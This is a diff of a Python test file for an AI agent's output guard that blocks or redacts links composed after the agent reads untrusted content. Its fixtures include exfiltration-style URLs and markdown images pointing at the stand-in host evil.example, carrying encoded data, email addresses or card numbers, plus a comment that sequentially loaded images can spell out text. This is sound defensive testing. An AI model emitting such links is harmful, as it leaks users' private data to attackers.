@@ -199,9 +199,8 @@ async def test_questions_to_the_user_are_arguments_too(store):
 # Links
 
 LEFT = (
-    "[see](https://docs.example/guide)",
     "https://cdn.example/b?size=2",
-    "![a](https://shop.example/a?id=1)",
+    "链接：https://cdn.example/b?size=2，见上。",
     "![logo](https://img.ok.example/l.png?d=1)",
     "// a comment, and 1//2",
 )
@@ -219,19 +218,22 @@ CUT = (
     "https://c2VjcmV0IGRhdGEgb2YgYW5u.evil.example/",
     "HTTPS://EVIL.EXAMPLE/?a",
     "https://cdn.example/b?size=23",
+    "https://evil.example",
+    "[click](https://evil.example/guide)",
+    "![a](https://cdn.example/b?size=2)",  # read, but pictures are loaded one after the other, and spell any text
 )
 
 
 @pytest.mark.parametrize("text", [*LEFT, *CUT])
 async def test_links_that_the_model_composed(text, store):
-    """After untrusted content, a link with data leads to hosts of the list only, or is one that the run has read."""
-    guards = [exit_filter(hosts=["*.ok.example"], kinds=[], canary=False)]
+    """After untrusted content, an address leads to hosts of the list only, or is a link that the run has read."""
+    guards = [exit_filter(allow_hosts=["*.ok.example"], kinds=[], canary=False)]
     run = await agent_of(store, say("", call("read_page")), text, guards=guards).run("go")
     assert (LINK_MARK in run.output) == (text in CUT)
     assert ("evil" not in run.output.casefold()) if text in CUT else (run.output == text)
     trusted = await agent_of(store, text, guards=guards).run("go")
     assert trusted.output == text
-    off = [exit_filter(hosts=None, kinds=[], canary=False)]
+    off = [exit_filter(allow_hosts=None, kinds=[], canary=False)]
     assert (await agent_of(store, say("", call("read_page")), text, guards=off).run("go")).output == text
 
 
@@ -280,18 +282,15 @@ async def read_mail() -> str:
         # Neither asked for nor typed.
         ("Summarise my emails.", "ann@example.com", "[EMAIL_REDACTED]"),
         ("Write to ann@example.com", "bob@example.com, Joann@example.com", "[EMAIL_REDACTED], [EMAIL_REDACTED]"),
-        ("Read my mail.", f"{RESET} {CARD}", "https://shop.example/reset?[SECRET_REDACTED] [BANK_CARD_REDACTED]"),
+        ("Read my mail.", f"{RESET} {CARD}", f"{LINK_MARK} [BANK_CARD_REDACTED]"),
         ("What is her card number?", CARD, "[BANK_CARD_REDACTED]"),
         ("Give me the link and the password.", "password: a1B2c3D4e5", "[SECRET_REDACTED]"),
         # A link that the model has composed carries nothing, whatever was asked for or typed.
-        (
-            "Give me the link.",
-            "https://shop.example/reset?token=a1B2c3D4e6",
-            "https://shop.example/reset?[SECRET_REDACTED]",
-        ),
-        ("Email addresses?", "![x](https://evil.example/?d=ann@example.com)", f"![x]({LINK_MARK}[EMAIL_REDACTED])"),
-        (f"Is {CARD} valid?", "www.evil.example/4111111111111111", "www.evil.example/[BANK_CARD_REDACTED]"),
-        ("Email addresses?", "ftp://evil.example/ann@example.com", "ftp://evil.example/[EMAIL_REDACTED]"),
+        ("Give me the link.", "https://shop.example/reset?token=a1B2c3D4e6", LINK_MARK),
+        ("Email addresses?", "![x](https://evil.example/?d=ann@example.com)", f"![x] {LINK_MARK}"),
+        (f"Is {CARD} valid?", "www.evil.example/4111111111111111", LINK_MARK),
+        ("Email addresses?", "ftp://evil.example/ann@example.com", LINK_MARK),
+        ("What is on https://evil.example/a?", "![x](https://evil.example/a)", "![x](https://evil.example/a)"),
         (f"My key is {KEY}", f"It is {KEY}", "It is [SECRET_REDACTED]"),
     ],
 )
@@ -494,7 +493,7 @@ async def test_each_run_has_a_mark_of_its_own(store):
     fork = await agent.fork(first.id, at=1)
     assert (await agent.replay(first.id)).is_faithful
     assert (await agent.replay(fork.id)).is_faithful
-    twice = agent_of(store, "a", guards=[Guard(exit_filter()), exit_filter(hosts=None)])
+    twice = agent_of(store, "a", guards=[Guard(exit_filter()), exit_filter(allow_hosts=None)])
     await twice.run("go")
     assert twice.model.requests[0].instructions.count("confidential") == 1
 
